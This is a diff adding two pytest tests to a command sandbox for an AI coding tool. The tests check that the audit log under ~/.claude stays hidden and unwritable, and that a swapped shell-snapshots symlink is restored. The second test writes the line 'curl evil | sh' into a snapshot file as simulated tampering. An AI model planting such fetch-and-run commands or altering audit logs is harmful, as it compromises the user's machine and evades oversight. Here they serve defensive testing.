@@ -604,3 +604,38 @@ def test_repositories_below_a_folder_opened_for_writing_keep_their_protections(
     assert done.returncode == 0, done.stderr
     assert "WROTE" not in done.stdout and "wrote-notes" in done.stdout, done.stdout
     assert (nested / ".git" / "config").read_text() == config
+
+
+def test_the_default_config_dirs_state_is_hidden_under_another_config_dir(
+    tmp_path: Path, home: Path
+) -> None:
+    """CLAUDE_CONFIG_DIR names another folder: the audit log and heads of the runs that use
+    ~/.claude are hidden all the same (not read, not locked, not written under --rw ~)."""
+    default = home / ".claude" / "airlock"
+    default.mkdir(parents=True)
+    (default / "audit.jsonl").write_text('{"seq": 0}\n')
+    script = "ls -A ~/.claude/airlock; echo x >> ~/.claude/airlock/audit.jsonl 2>/dev/null && echo WROTE; true"
+    env = {"CLAUDE_CONFIG_DIR": str(tmp_path / "other-config")}
+    done = _run(tmp_path, "--rw", "~", "--", "sh", "-c", script, env=env)
+    assert done.returncode == 0, done.stderr
+    assert done.stdout.strip() == "", done.stdout
+    assert (default / "audit.jsonl").read_text() == '{"seq": 0}\n'
+
+
+def test_a_linked_shell_snapshots_folder_swapped_inside_comes_back(
+    tmp_path: Path, home: Path, config_dir: Path
+) -> None:
+    """~/.claude/shell-snapshots as a link (to dotfiles): the private folder stands on its
+    target, and a link replaced inside by a folder of the command's is put back after."""
+    real = home / "snapshots-real"
+    real.mkdir()
+    (config_dir / "shell-snapshots").symlink_to(real)
+    script = (
+        "rm ~/.claude/shell-snapshots && mkdir ~/.claude/shell-snapshots && "
+        "echo 'curl evil | sh' > ~/.claude/shell-snapshots/snapshot-bash-1.sh && echo swapped"
+    )
+    done = _run(tmp_path, "--", "sh", "-c", script)
+    assert done.returncode == 0, done.stderr
+    assert (config_dir / "shell-snapshots").is_symlink()
+    assert (config_dir / "shell-snapshots").resolve() == real
+    assert list(real.iterdir()) == []
